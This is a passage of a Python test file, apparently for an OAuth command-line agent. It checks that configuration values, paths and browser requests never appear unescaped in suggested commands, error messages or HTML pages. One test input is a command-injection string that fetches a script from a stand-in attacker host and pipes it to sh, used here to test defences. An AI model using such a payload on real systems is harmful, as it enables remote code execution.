        return told, None
    return told, read.accounts["work"]


def own_words(one: Account) -> list[Remedy]:
    """The remedies that name what is in the configuration."""
    wanted = remedies.account_of_its_own("work", one.issuer, one.client_id, "https://other.example/", "read:all")
    api = f"{one.issuer}api/v2/"
    return [wanted, remedies.management_account("work", None, one.issuer, one.client_id, api, SCOPE)]


@pytest.mark.parametrize("way", WAYS_OUT)
@pytest.mark.parametrize("key", ["issuer", "client_id", "audience", "scope"])
def test_what_the_configuration_says_is_one_argument_or_none(key: str, way: str) -> None:
    for text in (*TEXTS.values(), "https://acme.example/;curl${IFS}-s${IFS}https://evil.example/x|sh"):
        told, one = configured(key, text)
        if one is None:
            assert foreign(WAYS_OUT[way](told), (), text) == []
            continue
        failure = outcome.Refusal("no")
        told.errors.append(
            advice.refresh_failed(
                one, Retrying(failure, 1, NOW, NOW, NOW), NOW, TokenKey("https://other.example/", "read:all")
            )
        )
        told.errors.append(AgentError("no", remedy=(own_words(one)[1],)))
        helps = [remedy for error in told.errors for remedy in error.remedy]
        assert foreign(WAYS_OUT[way](told), helps, "") == []
        for remedy in helps:
            holds = {word for word in remedy.command if "evil.example" in word}
            own = getattr(one, key)
            assert holds <= {own, f"{own}api/v2/"}
            assert "evil.example" not in remedy.text
            assert shlex.split(remedy.line) == list(remedy.command)


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_neither_a_path_nor_a_socket_begins_a_line_or_a_command_of_its_own(text: str) -> None:
    path = f"/home/anna/{text}".replace("\0", "")
    config = configuration.parse(Path(path), f'[accounts.work]\nissuer = "{ISSUER}"\nclient_id = "{CLIENT}"')
    told = Came()
    with pytest.raises(AgentError) as caught:
        resolve_url(Arguments(Request(1, "token", {"url": "https://api.example/"})), config)
    told.errors.append(caught.value)
    told.errors.append(UntrustedAgent(f"others may enter {path}", remedy=(close_directory(path),)))
    told.errors.append(AgentError("x", remedy=(remedies.see_status_at(path), remedies.run_beside(path))))
    helps = [remedy for error in told.errors for remedy in error.remedy]
    shown = [Remedy(printable(one.text, 4096), *map(printable, one.command)) for one in helps]
    for way in (in_an_error, of_a_light_command, on_the_page):
        assert foreign(way(told), [*helps, *shown], "") == []


# ---- a browser


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
@pytest.mark.parametrize(
    "request_",
    [
        "GET /{} HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        "GET /callback HTTP/1.1\r\nHost: {}\r\n\r\n",
        "{} / HTTP/1.1\r\nHost: 127.0.0.1:1\r\n\r\n",
        "{}",
    ],
)
def test_nothing_that_a_browser_sends_is_on_a_page(request_: str, text: str) -> None:
    page = HTTPRequest(1).receive(request_.format(text).encode() + b"\r\n\r\n")
    assert isinstance(page, Page)
    assert not rows(text) & rows(unescape(page.body.decode()))
    assert "<code>" not in page.body.decode()


# ---- nothing is forgotten

OAUTH = Path(outcome.__file__).parent
# What makes a text printable though no provider wrote it, or where one can't put a text of its own.
ELSEWHERE = {
    "provider._send": "an address, which `check_address` has let in",
    "provider._cause": "the operating system's words",
}


def made_printable() -> set[str]:
    """The functions that put a text of somebody else's into their own: module and name."""
    found: set[str] = set()
    for path in OAUTH.glob("*.py"):
        for function in ast.walk(ast.parse(path.read_text())):
            if isinstance(function, ast.FunctionDef | ast.AsyncFunctionDef) and any(
                isinstance(node, ast.Call) and isinstance(node.func, ast.Name) and node.func.id == "printable"
                for node in ast.walk(function)
            ):
                found.add(f"{path.stem}.{function.name}")
    return found


def test_every_function_that_quotes_a_provider_has_a_source() -> None:
    named = {name for source in SOURCES.values() for name in source.at if not name.startswith("address.")}
    assert made_printable() - set(ELSEWHERE) == named
